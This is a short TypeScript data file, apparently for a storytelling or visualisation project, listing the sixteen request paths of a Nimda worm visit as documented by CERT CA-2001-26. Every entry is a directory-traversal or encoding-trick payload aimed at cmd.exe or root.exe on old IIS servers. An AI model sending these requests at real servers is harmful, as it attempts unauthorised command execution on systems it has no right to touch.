// For: what a visit of Nimda asks for, for the stories.
// Never: anything but the requests.

/** The sixteen requests of one Nimda visit, in its order (CERT CA-2001-26). */
export const nimdaVisit: readonly string[] = [
  "/scripts/root.exe?/c+dir",
  "/MSADC/root.exe?/c+dir",
  "/c/winnt/system32/cmd.exe?/c+dir",
  "/d/winnt/system32/cmd.exe?/c+dir",
  "/scripts/..%255c../winnt/system32/cmd.exe?/c+dir",
  "/_vti_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe?/c+dir",
  "/_mem_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe?/c+dir",
  "/msadc/..%255c../..%255c../..%255c/..%c1%1c../..%c1%1c../..%c1%1c../winnt/system32/cmd.exe?/c+dir",
  "/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir",
  "/scripts/..%c0%2f../winnt/system32/cmd.exe?/c+dir",
  "/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir",
  "/scripts/..%c1%9c../winnt/system32/cmd.exe?/c+dir",
  "/scripts/..%%35%63../winnt/system32/cmd.exe?/c+dir",
  "/scripts/..%%35c../winnt/system32/cmd.exe?/c+dir",
  "/scripts/..%25%35%63../winnt/system32/cmd.exe?/c+dir",
  "/scripts/..%252f../winnt/system32/cmd.exe?/c+dir",
];
